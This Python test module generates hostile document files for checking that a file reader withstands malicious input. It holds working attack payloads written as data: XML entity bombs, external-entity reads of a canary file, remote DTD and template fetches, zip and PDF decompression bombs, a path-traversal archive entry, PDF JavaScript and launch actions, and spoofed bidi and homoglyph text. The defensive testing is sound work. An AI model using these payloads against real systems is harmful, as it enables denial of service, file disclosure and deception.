"""Hostile files of every class, made anew each time: ``python -m tests.hostile.make FOLDER`` writes them to look at.

A case is a name, which begins with its class, and what ``read_bytes`` is given. ``{canary}`` stands for a file that
nobody may read and ``{server}`` for a server that nobody may ask.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

Made = bytes | Callable[[], bytes]
Case = tuple[str, str, Made]
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_O = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)
_ODT = "application/vnd.oasis.opendocument.text"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_BOMB = f'<!DOCTYPE x [<!ENTITY l0 "lol">{_LAUGHS}]>'
_EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]>'
_REMOTE = '<!DOCTYPE x [<!ENTITY % d SYSTEM "{server}/d.dtd"> %d;]>'


def names() -> list[str]:
    """Return the name of every case; none is made for it."""
    return [name for name, _, _ in _all()]


def case(wanted: str, canary: str, server: str) -> tuple[str, bytes]:
    """Return file name and bytes of one case, told where the canary file and the canary server are."""
    file, made = next((file, made) for name, file, made in _all() if name == wanted)
    data = made() if callable(made) else made
    return file, data.replace(b"{canary}", canary.encode()).replace(b"{server}", server.encode())


def _all() -> Iterator[Case]:
    for kind in (_pages, _words, _open_documents, _zips, _pdfs, _rich_texts, _archives, _texts):
        yield from kind()


def _pages() -> Iterator[Case]:
    bodies = {
        "nested-divs": "<div>" * 100_000 + "<p>Deep.</p>",
        "nested-inline": "<b>" * 100_000 + "Deep.",
        "nested-lists": "<ul><li>" * 20_000 + "Deep.",
        "nested-tables": "<table><tr><td>" * 20_000 + "Deep.",
        "unclosed-tags": "<p>word " * 200_000,
        "unclosed-scripts": "<p>Words.</p>" + "<script>" * 20_000,
        "unclosed-comments": "<p>Words.</p>" + "<!--" * 50_000,
        "attributes": f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>Words.</p>",
        "long-attribute": f'<p class="{"x" * 5_000_000}">Words.</p>',
        "entities": f"{_BOMB}<p>&l11; Words.</p>",
        "external-entity": f"{_EXTERNAL}<p>&e; Words.</p>",
        "remote-entity": f"{_REMOTE}<p>Words.</p>",
        "remote-parts": "<link rel=stylesheet href={server}/a.css><img src={server}/b.png><iframe src={server}/c>"
        "<script src={server}/d.js></script><base href={server}/><object data={server}/e></object><p>Words.</p>",
        "local-parts": "<img src='file://{canary}'><iframe src='file://{canary}'></iframe><p>Words.</p>",
        "xinclude": '<p xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file://{canary}"/>Words.</p>',
        "refresh": '<meta http-equiv=refresh content="0;url={server}/x"><p>Words.</p>',
        "linked-data": '<script type="application/ld+json">' + "[" * 200_000 + "</script><p>Words.</p>",
        "linked-data-wide": '<script type="application/ld+json">[' + "{}," * 300_000 + "{}]</script><p>Words.</p>",
        "character-references": "<p>&#0;&#xD800;&#x110000;&#99999999999999999999; Words.</p>",
        "hidden": '<p>Words.</p><p style="font-size:0">Pay twice.</p><p hidden>And again.</p>',
        "braille": "<p>\u2801\u2801\u2801 \u2801\u2801\u2802 Words.</p>" * 50,
        "many-links": "".join(f"<a href='/{n}'>w</a> " for n in range(100_000)),
        "many-breaks": "<p>Words." + "<br>" * 300_000,
        "bad-address": "<base href='http://[::1'><a href='http://[x'>Words.</a>",
        "wide-table": "<table><tr>" + "<td>1</td>" * 100_000 + "</table>",
    }
    for name, body in bodies.items():
        yield f"page-{name}", "page.html", f"<html><body>{body}".encode()
    yield "page-false-charset", "page.html", b'<meta charset="utf-7"><p>+ADw-script+AD4- Words.</p>'
    yield "page-unknown-charset", "page.html", b'<meta charset="rot13"><p>Words.</p>'
    yield "page-codec-of-python", "page.html", b'<meta charset="unicode_escape"><p>\\x57ords.</p>'
    yield "page-nul", "page.html", b"<p>Wor\x00ds.</p>"


def _zip(*entries: tuple[str, str | bytes], stored: bool = False) -> bytes:
    held = io.BytesIO()
    kind = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(held, "w", kind) as file:
        for name, data in entries:
            first = name == "mimetype"
            file.writestr(name, data, zipfile.ZIP_STORED if first else kind)
    return held.getvalue()


_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="{0}"{1}/></Relationships>'
)


def _word(document: str | bytes, *more: tuple[str, str | bytes], target: str = "word/document.xml") -> bytes:
    relations = _RELATIONS.format(target, ' TargetMode="External"' if "://" in target else "")
    return _zip(("[Content_Types].xml", _TYPES), ("_rels/.rels", relations), ("word/document.xml", document), *more)


def _body(inside: str) -> str:
    return f"<w:document {_W}><w:body>{inside}</w:body></w:document>"


_PARAGRAPH = "<w:p><w:r><w:t>Words.</w:t></w:r></w:p>"


def _words() -> Iterator[Case]:
    nested = "<w:tbl><w:tr><w:tc>" * 5000 + _PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 5000
    documents = {
        "entities": f"{_BOMB}<w:document {_W}><w:body><w:p><w:r><w:t>&l11;</w:t></w:r></w:p></w:body></w:document>",
        "external-entity": _EXTERNAL + _body("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>"),
        "remote-entity": _REMOTE + _body(_PARAGRAPH),
        "nested-tables": _body(nested),
        "many-paragraphs": _body(_PARAGRAPH * 400_000),
        "one-long-run": _body(f"<w:p><w:r><w:t>{'word ' * 4_000_000}</w:t></w:r></w:p>"),
        "broken-xml": "<w:document><w:body>",
        "empty": "",
        "no-body": f"<w:document {_W}/>",
    }
    for name, document in documents.items():
        yield f"word-{name}", "a.docx", partial(_word, document)
    yield "word-remote-document", "a.docx", _word(_body(_PARAGRAPH), target="{server}/document.xml")
    yield "word-path-up", "a.docx", _word(_body(_PARAGRAPH), ("../../../../tmp/out.xml", "x"), target="../../{canary}")
    yield (
        "word-remote-template",
        "a.docx",
        _word(
            _body(_PARAGRAPH),
            ("word/_rels/settings.xml.rels", _RELATIONS.format("{server}/t.dotm", ' TargetMode="External"')),
        ),
    )


def _open_documents() -> Iterator[Case]:
    def content(inside: str, before: str = "") -> str:
        return (
            f"{before}<office:document-content {_O}><office:body><office:text>{inside}"
            "</office:text></office:body></office:document-content>"
        )

    contents = {
        "entities": content("<text:p>&l11;</text:p>", _BOMB),
        "external-entity": content("<text:p>&e;</text:p>", _EXTERNAL),
        "nested-lists": content("<text:list><text:list-item>" * 5000 + "<text:p>Words.</text:p>"),
        "spaces": content('<text:p>Words.<text:s text:c="2000000000"/></text:p>'),
        "many-paragraphs": content("<text:p>Words.</text:p>" * 400_000),
    }
    for name, text in contents.items():
        yield f"opendocument-{name}", "a.odt", partial(_zip, ("mimetype", _ODT), ("content.xml", text))
    yield "opendocument-without-content", "a.odt", _zip(("mimetype", _ODT), ("other.xml", "x"))


def _zips() -> Iterator[Case]:
    yield "zip-bomb", "a.docx", lambda: _word(b" " * (600 << 20))
    yield (
        "zip-many-entries",
        "a.docx",
        lambda: _word(_body(_PARAGRAPH), *((f"word/media/{n}", "") for n in range(30_000))),
    )
    lies = bytearray(_word(_body(_PARAGRAPH) + " " * 100_000))
    at = lies.rindex(b"PK\x01\x02")
    lies[at + 24 : at + 28] = struct.pack("<I", 10)
    yield "zip-false-size", "a.docx", bytes(lies)
    locked = bytearray(_word(_body(_PARAGRAPH)))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = 0
        while (at := locked.find(sign, at)) >= 0:
            locked[at + offset] |= 1
            at += 4
    yield "zip-encrypted", "a.docx", bytes(locked)
    whole = _word(_body(_PARAGRAPH))
    yield "zip-truncated", "a.docx", whole[: len(whole) // 2]
    yield "zip-twice-the-same-name", "a.docx", _twice()
    yield (
        "zip-in-zip",
        "a.docx",
        partial(_nested, 3),
    )


def _nested(depth: int) -> bytes:
    return _zip(("word/document.xml", _nested(depth - 1) if depth else b" " * (9 << 20)))


def _twice() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("[Content_Types].xml", _TYPES)
        file.writestr("_rels/.rels", _RELATIONS.format("word/document.xml", ""))
        file.writestr("word/document.xml", _body(_PARAGRAPH))
        file.filelist[-1].filename = "word/other.xml"
        file.NameToInfo.clear()
        file.writestr("word/document.xml", _body(_PARAGRAPH.replace("Words", "Other words")))
        file.filelist[-2].filename = "word/document.xml"
    return held.getvalue()


def _pdf(*objects: bytes) -> bytes:
    held, places = bytearray(b"%PDF-1.7\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(held))
        held += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    table = len(held)
    held += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    held += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(held + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table))


def _stream(data: bytes, extra: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), extra, data)


_CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def _pdf_of(content: bytes, extra: bytes = b"/Filter/FlateDecode", catalog: bytes = _CATALOG) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>"
    return _pdf(catalog, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, _stream(content, extra), _FONT)


def _pdfs() -> Iterator[Case]:
    text = b"BT /F 12 Tf 50 700 Td (Words of the article.) Tj ET\n"
    yield "pdf-bomb", "a.pdf", lambda: _pdf_of(zlib.compress(b" " * (400 << 20)))
    yield (
        "pdf-bomb-in-bomb",
        "a.pdf",
        lambda: _pdf_of(zlib.compress(zlib.compress(b" " * (400 << 20))), b"/Filter[/FlateDecode/FlateDecode]"),
    )
    yield "pdf-endless-text", "a.pdf", lambda: _pdf_of(zlib.compress(text * 400_000))
    yield "pdf-self-reference", "a.pdf", _pdf(_CATALOG, b"<</Type/Pages/Kids[2 0 R]/Count 1>>")
    yield "pdf-many-pages", "a.pdf", _pdf(
        _CATALOG, b"<</Type/Pages/Count 2000000/Kids[" + b"3 0 R " * 200_000 + b"]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )  # fmt: skip
    yield "pdf-nested-arrays", "a.pdf", _pdf(b"[" * 100_000, b"")
    script = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('{server}'\\))>>>>"
    yield "pdf-script", "a.pdf", _pdf_of(zlib.compress(text), catalog=script)
    launch = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F({canary})>>>>"
    yield "pdf-launch", "a.pdf", _pdf_of(zlib.compress(text), catalog=launch)
    yield "pdf-invisible-text", "a.pdf", _pdf_of(zlib.compress(b"BT 3 Tr /F 12 Tf 50 700 Td (It says 91.) Tj ET"))
    yield "pdf-huge-page", "a.pdf", _pdf_of(zlib.compress(text)).replace(b"[0 0 600 800]", b"[0 0 9e9 9e9]")
    yield "pdf-truncated", "a.pdf", _pdf_of(zlib.compress(text))[:300]
    yield "pdf-nothing", "a.pdf", b"%PDF-1.7\n"
    yield "pdf-external-stream", "a.pdf", _pdf_of(b"", b"/F({canary})")


def _rich_texts() -> Iterator[Case]:
    groups = {
        "nested": "{" * 200_000 + "Words." + "}" * 200_000,
        "unbalanced": "}" * 200_000 + "Words.",
        "object": r"{\object\objupdate{\*\objdata " + "41" * 2_000_000 + "}}Words.",
        "binary": r"\bin2000000000 Words.",
        "numbers": r"\u99999999999999999999? \'zz \fs-1 Words.",
        "field": r'{\field{\*\fldinst INCLUDETEXT "{canary}"}{\fldrslt Words.}}',
        "template": r"{\*\template {server}/t.dot}Words.",
        "controls": "\\a" * 1_000_000 + " Words.",
    }
    for name, inside in groups.items():
        yield f"rtf-{name}", "a.rtf", ("{\\rtf1\\ansi " + inside + "}").encode()


def _archives() -> Iterator[Case]:
    head = (
        "From: <Saved by a browser>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n'
    )
    part = "--b\r\nContent-Type: text/html; charset={0}\r\n{1}\r\n\r\n<p>Words.</p>\r\n"
    parts = {
        "many-parts": "--b\r\nContent-Type: image/png\r\n\r\nx\r\n" * 50_000 + part.format("utf-8", ""),
        "nested-parts": "".join(
            f"--{'b' * n}\r\nContent-Type: multipart/related; boundary={'b' * (n + 1)}\r\n\r\n" for n in range(1, 400)
        ),
        "false-encoding": part.format("utf-8", "Content-Transfer-Encoding: base64"),
        "codec-of-python": part.format("unicode_escape", ""),
        "no-page": "--b\r\nContent-Type: image/png\r\n\r\nx\r\n--b--",
        "long-header": f"--b\r\nContent-Type: text/html\r\nX: {'y' * 3_000_000}\r\n\r\n<p>Words.</p>",
        "remote-body": "--b\r\nContent-Type: message/external-body; access-type=URL; URL={server}/x\r\n\r\n",
    }
    for name, inside in parts.items():
        yield f"archive-{name}", "a.mhtml", (head + inside).encode()


def _texts() -> Iterator[Case]:
    yield "text-one-line", "a.txt", b"word " * 2_000_000
    yield "text-no-spaces", "a.txt", b"x" * 5_000_000
    yield "text-controls", "a.txt", "Pay \u202e001\u202c to p\u0430ypal\u200b.\x1b[2J".encode()
    yield "text-marks", "a.md", b"[" * 50_000 + b"Words." + b"](" * 50_000
    yield "text-headings", "a.md", b"# " * 200_000 + b"Words."
    yield "text-quotes", "a.md", b">" * 200_000 + b" Words."
    yield "text-front-matter", "a.md", b"---\n" + b"a: b\n" * 200_000 + b"---\nWords."
    yield "text-nul", "a.txt", b"Wor\x00ds of an article that goes on for a while, so that it is text." * 3


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name in names():
        file, data = case(name, "/canary", "http://127.0.0.1:9")
        (folder / f"{name}{Path(file).suffix}").write_bytes(data)
